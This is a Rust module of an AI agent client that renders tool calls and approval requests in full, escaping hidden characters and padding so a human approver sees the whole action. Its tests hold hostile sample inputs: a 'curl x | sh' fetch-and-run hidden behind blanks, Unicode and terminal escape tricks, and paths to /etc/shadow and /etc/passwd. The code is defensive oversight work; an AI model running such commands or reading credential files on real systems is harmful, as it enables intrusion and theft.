//! Tool calls in one line, and whole actions for a decision.

use std::path::Path;

use kimi_agent_protocol::messages::{ApprovalRequest, ToolCallInfo, ToolKind};
use kimi_agent_protocol::printable::{printable_line, unambiguous};
use serde_json::{Map, Value};

/// The largest number of characters of a line about a tool call.
const MAX_LINE: usize = 200;
/// Arguments that say the most about a call, in this order.
const TELLING: [&str; 9] =
    ["command", "file_path", "path", "abs_path", "url", "pattern", "query", "description", "prompt"];

/// Describes a tool call: its name, and its most telling argument or all of them.
pub(crate) fn described(call: &ToolCallInfo) -> String {
    named(&call.name, call.arguments.as_ref())
}

/// Describes a tool call by its name and its arguments.
pub(crate) fn named(name: &str, arguments: Option<&Map<String, Value>>) -> String {
    let about = arguments.filter(|arguments| !arguments.is_empty()).map(|arguments| {
        let telling = TELLING.iter().find_map(|key| arguments.get(*key)?.as_str());
        telling.map_or_else(|| Value::Object(arguments.clone()).to_string(), str::to_owned)
    });
    // Over ACP the name may be a title that has the command already.
    match about.filter(|about| !name.contains(&**about)) {
        Some(about) => short(&format!("{name} {about}")),
        None => short(name),
    }
}

/// Returns a text in one line. A long text is cut, with its length.
pub(crate) fn short(text: &str) -> String {
    let line = whole_line(text.trim());
    match line.char_indices().nth(MAX_LINE) {
        Some((end, _)) => format!("{}… ({} characters)", &line[..end], text.chars().count()),
        None => line,
    }
}

/// Returns a text in one line, with nothing hidden and nothing cut.
pub(crate) fn whole_line(text: &str) -> String {
    printable_line(&unambiguous(text)).into_owned()
}

/// Describes a tool call in one line: its name and all of its arguments, with nothing hidden and nothing cut.
pub(crate) fn whole(call: &ToolCallInfo) -> String {
    let arguments = call.arguments.as_ref().filter(|arguments| !arguments.is_empty());
    let arguments = arguments.map(|arguments| match arguments.iter().next() {
        Some((name, Value::String(text))) if arguments.len() == 1 && TELLING.contains(&name.as_str()) => {
            format!(" {text}")
        }
        _ => format!(" {}", Value::Object(arguments.clone())),
    });
    let is_argument = |path: &str| call.arguments.iter().flat_map(Map::values).any(|value| value == path);
    let paths: Vec<&str> = paths(call).map(|(_, path)| path).filter(|path| !is_argument(path)).collect();
    let paths = if paths.is_empty() { String::new() } else { format!("; paths: {}", paths.join(", ")) };
    whole_line(&format!("{}{}{paths}", call.name, arguments.unwrap_or_default()))
}

/// Returns the paths that the agent names for the call in addition to its arguments. The policy decides about them, too.
fn paths(call: &ToolCallInfo) -> impl Iterator<Item = (&'static str, &str)> {
    let locations = call.locations.iter().flatten().map(|path| ("path", path.as_str()));
    locations.chain(call.diffs.iter().flatten().map(|path| ("changed file", path.as_str())))
}

/// Returns the lines of all that a person decides about: the tool, its arguments, the directory, and what the agent says
/// about them.
pub(crate) fn decided(request: &ApprovalRequest, work_dir: &Path) -> Vec<String> {
    let mut lines = Vec::new();
    let mut field = |name: &str, value: &str| {
        let shown = unambiguous(value);
        let count = value.chars().count();
        let length = if count > MAX_LINE { format!(" ({count} characters)") } else { String::new() };
        match shown.contains('\n') {
            false => lines.push(format!("  {}{length}: {shown}", whole_line(name))),
            true => {
                lines.push(format!("  {}{length}:", whole_line(name)));
                lines.extend(shown.lines().map(|line| format!("    | {line}")));
            }
        }
    };
    let call = request.tool_call.get();
    field("tool", call.map_or(&request.sender, |call| &call.name));
    if call.is_some_and(|call| call.name != request.sender) {
        field("sender", &request.sender);
    }
    if let Some(kind) = call.and_then(|call| call.kind.as_ref()) {
        field("kind", ToolKind::as_str(kind));
    }
    field("action", &request.action);
    for (name, value) in call.and_then(|call| call.arguments.as_ref()).into_iter().flatten() {
        match value {
            Value::String(text) => field(&format!("argument {name}"), text),
            other => field(&format!("argument {name}"), &other.to_string()),
        }
    }
    if call.is_none_or(|call| call.arguments.is_none()) {
        field("arguments", "not known");
    }
    for (what, path) in call.into_iter().flat_map(paths) {
        field(what, path);
    }
    if call.is_some_and(|call| call.changed == Some(true)) {
        field("changed", "the agent described this call differently before");
    }
    if !request.description.is_empty() {
        field("description", &request.description);
    }
    for block in &request.display {
        field("display", &serde_json::to_string(block).unwrap_or_default());
    }
    if let Some(source) = &request.source_description {
        field("asked by", source);
    }
    field("directory", &work_dir.to_string_lossy());
    lines
}

/// The lines of a page of a long action, and the characters of a line, on the smallest usual terminal.
const PAGE_LINES: usize = 20;
const COLUMNS: usize = 76;

/// Returns the pages of an action. A line that is longer than a page continues on the next one.
pub(crate) fn pages(lines: &[String]) -> Vec<String> {
    let mut pages = vec![String::new()];
    let mut height = 0;
    for line in lines {
        let letters: Vec<char> = line.chars().collect();
        for (at, piece) in letters.chunks((PAGE_LINES - 1) * COLUMNS).enumerate() {
            let continued = if at > 0 { "    … " } else { "" };
            let rows = (continued.chars().count() + piece.len()).div_ceil(COLUMNS);
            if height + rows > PAGE_LINES {
                pages.push(String::new());
                height = 0;
            }
            let page = pages.last_mut().expect("there is a page");
            page.push_str(continued);
            page.extend(piece);
            page.push('\n');
            height += rows;
        }
    }
    pages
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn line(name: &str, arguments: &Value) -> String {
        named(name, arguments.as_object())
    }

    #[test]
    fn telling_argument_is_shown() {
        assert_eq!(line("Shell", &json!({"timeout": 5, "command": "ls\n-la"})), r"Shell ls\n-la");
        assert_eq!(line("add", &json!({"a": 1})), r#"add {"a":1}"#);
        assert_eq!(line("Glob", &json!({})), "Glob");
        assert_eq!(line("Run `ls -la`", &json!({"command": "ls -la"})), "Run `ls -la`");
    }

    #[test]
    fn long_line_is_cut() {
        let shown = short(&"ü".repeat(300));
        assert_eq!(shown, format!("{}… (300 characters)", "ü".repeat(MAX_LINE)));
        let blanks = format!("git status{}; curl x | sh", " ".repeat(190));
        assert_eq!(short(&blanks), "git status[190 blanks]; curl x | sh");
    }

    fn request(command: &str) -> ApprovalRequest {
        let request = json!({
            "id": "1", "tool_call_id": "t", "sender": "Shell", "action": "run command", "description": "List", "display": [],
        });
        let mut request: ApprovalRequest = serde_json::from_value(request).expect("a request");
        let call =
            json!({"id": "t", "name": "Shell", "kind": "execute", "arguments": {"command": command, "timeout": 60}});
        request.tool_call = serde_json::from_value::<ToolCallInfo>(call).expect("a call").into();
        request
    }

    #[test]
    fn all_of_an_action_is_shown() {
        let request = request(&format!("git status{}; curl x | sh\u{202e}\necho \x1b[8m", " ".repeat(190)));
        let lines = decided(&request, Path::new("/srv/app"));
        for part in
            ["git status[190 blanks]; curl x | sh\\u202e", "echo \\x1b[8m", "timeout: 60", "directory: /srv/app", "(2"]
        {
            assert!(lines.iter().any(|line| line.contains(part)), "{part}: {lines:#?}");
        }
    }

    #[test]
    fn paths_of_an_action_are_shown() {
        let mut request = request("ls");
        let call = json!({
            "id": "t", "name": "Edit", "kind": "edit", "arguments": {"path": "a.txt"}, "locations": ["/etc/shadow"],
            "diffs": ["/etc/pass\u{200b}wd"], "changed": true,
        });
        request.tool_call = serde_json::from_value::<ToolCallInfo>(call).expect("a call").into();
        let lines = decided(&request, Path::new("/srv/app"));
        for part in [
            "  sender: Shell",
            "  path: /etc/shadow",
            r"  changed file: /etc/pass\u200bwd",
            "described this call differently",
        ] {
            assert!(lines.iter().any(|line| line.contains(part)), "{part}: {lines:#?}");
        }
        let line = whole(request.tool_call.get().expect("a call"));
        assert_eq!(line, r"Edit a.txt; paths: /etc/shadow, /etc/pass\u200bwd");
    }

    #[test]
    fn long_action_has_pages() {
        let lines: Vec<String> = (0..50).map(|n| n.to_string()).chain(["x".repeat(4000)]).collect();
        let pages = pages(&lines);
        assert!(
            pages.len() >= 5 && pages.iter().all(|page| page.len() < (PAGE_LINES + 1) * COLUMNS),
            "{}",
            pages.len()
        );
        let all: String = pages.concat().chars().filter(|letter| *letter == 'x').collect();
        assert_eq!(all.len(), 4000);
    }
}
